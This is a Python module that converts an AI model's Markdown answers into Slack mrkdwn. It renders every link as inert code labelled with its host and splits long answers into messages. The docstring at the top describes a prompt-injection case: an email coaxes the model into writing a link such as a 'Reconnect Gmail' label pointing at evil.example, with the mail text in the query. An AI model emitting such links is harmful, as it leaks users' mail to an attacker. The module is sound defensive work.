"""Model output (Markdown) to Slack mrkdwn, cut into messages Slack accepts.

No link in an answer is ever live. The model writes what emails talk it into, so a
`[Reconnect Gmail](https://evil.example/?d=<mail>)` must not become a Slack link with a
trusted label, and a bare URL carrying mail text must not be fetched by an unfurl or a
click: every URL is shown as code (Slack neither links nor unfurls code), its host
named in front of it.
"""

from __future__ import annotations

import itertools
import re
from urllib.parse import urlsplit

# Slack truncates a message's text at 40,000 characters and renders long ones poorly;
# answers are split at paragraph or line boundaries well below that.
MESSAGE_LIMIT = 3500

_LINK = re.compile(r"\[([^\]\n]+)\]\(\s*<?([a-z][a-z0-9+.-]*:[^)\s>]+)>?\s*\)", re.I)
# Any beginning of such a link, to the end of the text (a streamed link not yet complete).
_LINK_PREFIX = re.compile(r"\[[^\]\n]*(?:\](?:\((?:\s*<?(?:[a-z][a-z0-9+.-]*(?::[^)\s>]*(?:>?\s*)?)?)?)?)?)?\Z", re.I)
# A URL the model wrote bare, with a scheme, www., or a host and a path, query or
# fragment: Slack links (and would unfurl) each of these.
_BARE_URL = re.compile(
    r"\b[a-z][a-z0-9+.-]*://[^\s`]+|\bwww\.[^\s`]+|\b[\w-]+(?:\.[\w-]+)+(?:/|[?#](?=[^\s`]))[^\s`]*", re.I
)
_TRAILING = ".,;:!?"
_BOLD = re.compile(r"\*\*(.+?)\*\*|__(.+?)__")
_HEADING = re.compile(r"^#{1,6}\s+(.+?)\s*#*$", re.M)
_BULLET = re.compile(r"^(\s*)[-*+]\s+", re.M)


def to_mrkdwn(markdown: str) -> str:
    """Convert the Markdown a model writes into Slack's mrkdwn, leaving code alone."""
    parts = re.split(r"(```.*?```|`[^`\n]+`)", markdown, flags=re.S)
    out = []
    for i, part in enumerate(parts):
        if i % 2 == 1:  # code span or block
            out.append(part)
            continue
        part = part.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        part = inert_links(part)
        part = _HEADING.sub(lambda m: f"*{m.group(1)}*", part)
        part = _BOLD.sub(lambda m: f"*{m.group(1) or m.group(2)}*", part)
        part = _BULLET.sub(lambda m: f"{m.group(1)}• ", part)
        out.append(part)
    return "".join(out).strip()


def inert_links(text: str) -> str:
    """Masked and bare links to inert text that names where they point. For any mrkdwn
    that shows text from mail or the model (answers, and cards quoting a message body);
    `text` must already be mrkdwn-escaped (&, <, >)."""
    text = _LINK.sub(_masked, text)
    # Bare URLs not already turned to code by the line above (those sit in backticks).
    pieces = re.split(r"(`[^`\n]*`)", text)
    return "".join(piece if i % 2 else _BARE_URL.sub(_bare, piece) for i, piece in enumerate(pieces))


class InertStream:
    """`inert_links` for Markdown that arrives a token at a time (a streamed answer, which
    Slack renders as Markdown: a `[label](url)` there is a live link). Text is passed on
    only up to a point no link, URL or code span can straddle (after whitespace, outside
    code spans and links, complete or still being written), so what is passed on, put
    together, is `inert_links` of the whole text; `end` passes on the rest."""

    def __init__(self) -> None:
        self._line = ""  # the current line's text passed on so far (code spans open across calls)
        self._held = ""

    def feed(self, text: str) -> str:
        self._held += text
        cut = self._safe_cut()
        return self._pass(cut)

    def end(self) -> str:
        return self._pass(len(self._held))

    def _pass(self, cut: int) -> str:
        ready, self._held = self._held[:cut], self._held[cut:]
        last_newline = ready.rfind("\n")
        self._line = ready[last_newline + 1 :] if last_newline >= 0 else self._line + ready
        return inert_links(ready) if ready else ""

    def _safe_cut(self) -> int:
        """The end of the held text that can be passed on now: after the last whitespace
        not inside a link (complete or still being written) or a code span; at least up
        to the last newline (links, URLs and code spans never cross one)."""
        newline = self._held.rfind("\n") + 1
        sent = len(self._line) if newline == 0 else 0  # of the current line, already passed on
        line = self._line[:sent] + self._held[newline:]
        links: list[tuple[int, int, int]] = []  # start, end, backticks in the URL (dropped when shown)
        unfinished = len(line)
        for opening in (i for i, c in enumerate(line) if c == "["):
            link = _LINK.match(line, opening)
            if link is not None:
                links.append((opening, link.end(), link.group(2).count("`")))
            elif _LINK_PREFIX.match(line, opening):
                unfinished = opening  # may still become a link: nothing after it goes yet
                break
        ticks = list(itertools.accumulate((c == "`" for c in line), initial=0))
        for space in reversed([m.end() for m in re.finditer(r"\s", line[sent:unfinished])]):
            at = sent + space
            if any(start < at < end for start, end, _ in links):
                continue
            if (ticks[at] - sum(t for _, end, t in links if end <= at)) % 2:
                continue  # inside a code span
            return newline + at - sent
        return newline


def _masked(match: re.Match[str]) -> str:
    return f"{match.group(1)} ({_shown_url(match.group(2))})"


def _bare(match: re.Match[str]) -> str:
    url = match.group(0)
    kept = url.rstrip(_TRAILING)  # sentence punctuation after a URL is not part of it
    return _shown_url(kept) + url[len(kept) :]


def _shown_url(url: str) -> str:
    host = urlsplit(url if "://" in url else f"//{url}").hostname or "unknown site"
    # Backticks cannot be escaped inside a Slack code span; drop them so the span holds.
    return f"link to {host}: `{url.replace('`', '')}`"


def split_message(text: str, limit: int = MESSAGE_LIMIT) -> list[str]:
    """Cut `text` into pieces of at most `limit` characters, preferring paragraph, then
    line, then word boundaries."""
    pieces: list[str] = []
    rest = text.strip()
    while len(rest) > limit:
        window = rest[:limit]
        cut = max(window.rfind("\n\n"), 0) or max(window.rfind("\n"), 0) or max(window.rfind(" "), 0) or limit
        if cut < limit // 2:  # no good boundary: cut at a space near the limit, or hard
            cut = window.rfind(" ") if window.rfind(" ") > limit // 2 else limit
        pieces.append(rest[:cut].rstrip())
        rest = rest[cut:].lstrip()
    if rest:
        pieces.append(rest)
    return pieces or [""]
